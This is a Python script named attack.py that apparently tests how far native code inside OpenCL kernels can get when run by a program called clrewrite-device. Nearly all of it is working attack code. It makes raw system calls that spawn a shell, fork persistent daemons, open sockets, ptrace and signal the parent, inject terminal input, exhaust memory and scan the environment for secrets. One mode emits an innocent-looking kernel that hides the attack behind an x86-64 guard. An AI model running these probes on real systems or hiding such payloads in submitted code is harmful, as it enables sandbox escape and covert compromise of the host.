"""Native code of a kernel on x86-64 Linux tries something.

attack.py [--device WORD...] NAME [PATH]
    runs it by clrewrite-device, and prints what the kernel got: the number of
    an error by its name, or a number
attack.py --kernel NAME [PATH]
    prints a source for clrewrite whose kernel has an edit that pays, and which
    tries it where the device's build looks at it; no target's parse does
"""
import errno
import json
import subprocess
import sys

CALL = r"""
static long call3(long number, long a, long b, long c) {
  long result;
  __asm__ volatile("syscall" : "=a"(result)
                   : "a"(number), "D"(a), "S"(b), "d"(c)
                   : "rcx", "r11", "memory");
  return result;
}
static long call6(long number, long a, long b, long c, long d, long e, long f) {
  long result;
  __asm__ volatile("mov %5, %%r10; mov %6, %%r8; mov %7, %%r9; syscall"
                   : "=a"(result)
                   : "0"(number), "D"(a), "S"(b), "d"(c), "m"(d), "m"(e),
                     "m"(f)
                   : "rcx", "r8", "r9", "r10", "r11", "memory");
  return result;
}
"""

ATTACKS = {
    "mkdir": "return call3(83, (long)path, 0777, 0);",
    "read": "return call3(2, (long)path, 0, 0);",
    "write": "return call3(2, (long)path, 65, 0666);",
    "truncate": "return call3(76, (long)path, 0, 0);",
    "unlink": "return call3(87, (long)path, 0, 0);",
    "exec": """
  char sh[] = "/bin/sh", c[] = "-c", what[] = "mkdir PATH";
  char *words[] = {sh, c, what, 0};
  return call3(59, (long)sh, (long)words, 0);""",
    # As posix_spawn starts the linker.
    "spawn": """
  char sh[] = "/bin/sh", c[] = "-c", what[] = "mkdir PATH";
  char *words[] = {sh, c, what, 0};
  volatile long status = 0;
  long child = call6(56, 0x4111, 0, 0, 0, 0, 0);
  if (child < 0) return child;
  if (child == 0) {
    long why = call3(59, (long)sh, (long)words, 0);
    call3(231, -why, 0, 0);
  }
  call6(61, child, (long)&status, 0, 0, 0, 0);
  return -((status >> 8) & 255);""",
    "inet": "return call3(41, 2, 1, 0);",
    "unix": "return call3(41, 1, 1, 0);",
    "kill": "return call3(62, call3(110, 0, 0, 0), 9, 0);",
    "tgkill": """
  long parent = call3(110, 0, 0, 0);
  return call3(234, parent, parent, 9);""",
    # A signal to the parent for a write to a pipe whose owner it is (F_SETOWN,
    # F_SETSIG): the kernel sends it, with no system call that names a signal.
    "sigio": """
  int ends[2];
  char byte = 0;
  long made = call3(22, (long)ends, 0, 0);
  if (made < 0) return made;
  long owned = call3(72, ends[0], 8, call3(110, 0, 0, 0));
  if (owned < 0) return owned;
  call3(72, ends[0], 10, 9);
  call3(72, ends[0], 4, 020000);
  call3(1, ends[1], (long)&byte, 1);
  long wait[2] = {1, 0};
  call3(35, (long)wait, 0, 0);
  return 0;""",
    "setsid": "return call3(112, 0, 0, 0);",
    "fork": """
  long child = call3(57, 0, 0, 0);
  if (child == 0) call3(231, 0, 0, 0);
  return child;""",
    # Leaves a child that makes a folder as soon as there is a file PATH-go, for
    # which it waits five minutes at most.
    "daemon": """
  char go[] = "PATH-go";
  long child = call3(57, 0, 0, 0);
  if (child == 0) {
    long wait[2] = {0, 200000000};
    call3(112, 0, 0, 0);
    call3(436, 0, 0xffffffff, 0); // nobody waits for what it would have open
    for (int i = 0; i < 1500 && call3(21, (long)go, 0, 0) < 0; ++i)
      call3(35, (long)wait, 0, 0);
    if (call3(21, (long)go, 0, 0) == 0) call3(83, (long)path, 0777, 0);
    call3(231, 0, 0, 0);
  }
  return child < 0 ? child : 0;""",
    "ptrace": "return call3(101, 16, call3(110, 0, 0, 0), 0);",
    "mount": "return call6(165, (long)path, (long)path, 0, 4096, 0, 0);",
    "unshare": "return call3(272, 0x10000000, 0, 0);",
    "bpf": "return call3(321, 0, 0, 0);",
    "keyctl": "return call3(250, 0, -3, 0);",
    "userfaultfd": "return call3(323, 0, 0, 0);",
    "io_uring": "return call3(425, 1, 0, 0);",
    "perf": "return call6(298, 0, 0, -1, -1, 0, 0);",
    "memfd": "return call3(319, (long)path, 0, 0);",
    "tiocsti": "return call3(16, 0, 0x5412, (long)path);",
    "setrlimit": """
  ulong none[2] = {~0ul, ~0ul};
  return call6(302, 0, 9, (long)none, 0, 0, 0);""",
    # How many GiB it gets.
    "memory": """
  long got = 0;
  while (got < 4096 && call6(9, 0, 1 << 30, 3, 0x4022, -1, 0) > 0) ++got;
  return got;""",
    # Whether its environment holds the word SECRET.
    "environment": """
  char name[] = "/proc/self/environ";
  char text[4096];
  long file = call3(2, (long)name, 0, 0), found = 0, n;
  if (file < 0) return file;
  while ((n = call3(0, file, (long)text, 4096)) > 0)
    for (long i = 0; i + 5 < n; ++i)
      found |= text[i] == 'S' && text[i + 1] == 'E' && text[i + 2] == 'C' &&
               text[i + 3] == 'R' && text[i + 4] == 'E' && text[i + 5] == 'T';
  return found;""",
    # The device program's own libc.
    "system": """
  char what[] = "mkdir PATH";
  int result;
  __asm__ volatile("mov %%rsp, %%rbx; sub $256, %%rsp; and $-16, %%rsp;"
                   "call system@PLT; mov %%rbx, %%rsp"
                   : "=a"(result)
                   : "D"(what)
                   : "rbx", "rcx", "rdx", "rsi", "r8", "r9", "r10", "r11",
                     "memory");
  return result;""",
    "print": 'for (;;) printf("endless\\n");',
    "loop": "for (;;) __asm__ volatile(\"\");",
    "sleep": "long wait[2] = {3, 0}; return call3(35, (long)wait, 0, 0);",
}


def functions(name, path):
    body = ATTACKS[name].replace("PATH", path)
    return CALL + "static long attack(void) {\n  char path[] = %s;\n%s\n}\n" % (
        json.dumps(path), body)


def kernel(name, path):
    return ("#ifdef __x86_64__\n%s#endif\n" % functions(name, path) + """
__kernel void sum4(__global const ushort *in, __global ushort8 *out, int a,
                   int b, int c, int d) {
  int i = (int)get_global_id(0);
#ifdef __x86_64__
  if (i == 0) attack();
#endif
  ushort8 sum = vload8(i, in + a) + vload8(i, in + b) - vload8(i, in + c) -
                vload8(i, in + d);
  out[i] = sum;
}
""")


class Device:
    """One process for all attacks, and a new one where it has ended."""

    def __init__(self, program):
        self.program, self.process = program, None

    def answer(self, job):
        if not self.process:
            self.process = subprocess.Popen(
                self.program, stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                text=True)
        self.process.stdin.write(json.dumps(job) + "\n")
        self.process.stdin.flush()
        line = self.process.stdout.readline()
        if not line:
            self.close()
        return line and json.loads(line)

    def close(self):
        if self.process:
            self.process.stdin.close()
            self.process.wait(60)
        self.process = None


def run(device, name, path):
    plain = "kernel void k(global long *p) { p[0] = 0; }"
    evil = functions(name, path) + (
        "kernel void k(global long *p) { p[0] = attack(); }")
    answer = device.answer({
        "v": 1, "id": 1, "job": "run", "device": 0, "global": [1],
        "versions": [{"kernel": "k", "source": plain},
                     {"kernel": "k", "source": evil}],
        "args": [{"buffer": {"bytes": 64, "fill": "zeros", "type": "long"}}]})
    if not answer:
        return "the program ended"
    if not answer["ok"]:
        return answer["error"]["name"]
    if not answer["differences"]:
        return "0"
    actual = bytes.fromhex(answer["differences"][0]["actual"])
    number = int.from_bytes(actual, "little", signed=True)
    return errno.errorcode.get(-number, str(number)) if number < 0 else str(
        number)


def main(words):
    if words[0] == "--kernel":
        return print(kernel(words[1], (words + [""])[2]))
    program = ["clrewrite-device"]
    while words[0] == "--device":
        program.append(words[1])
        words = words[2:]
    path = (words + [""])[1]
    device = Device(program)
    for name in words[0].split(","):
        print(name + ": " + run(device, name, path))
    device.close()


main(sys.argv[1:])
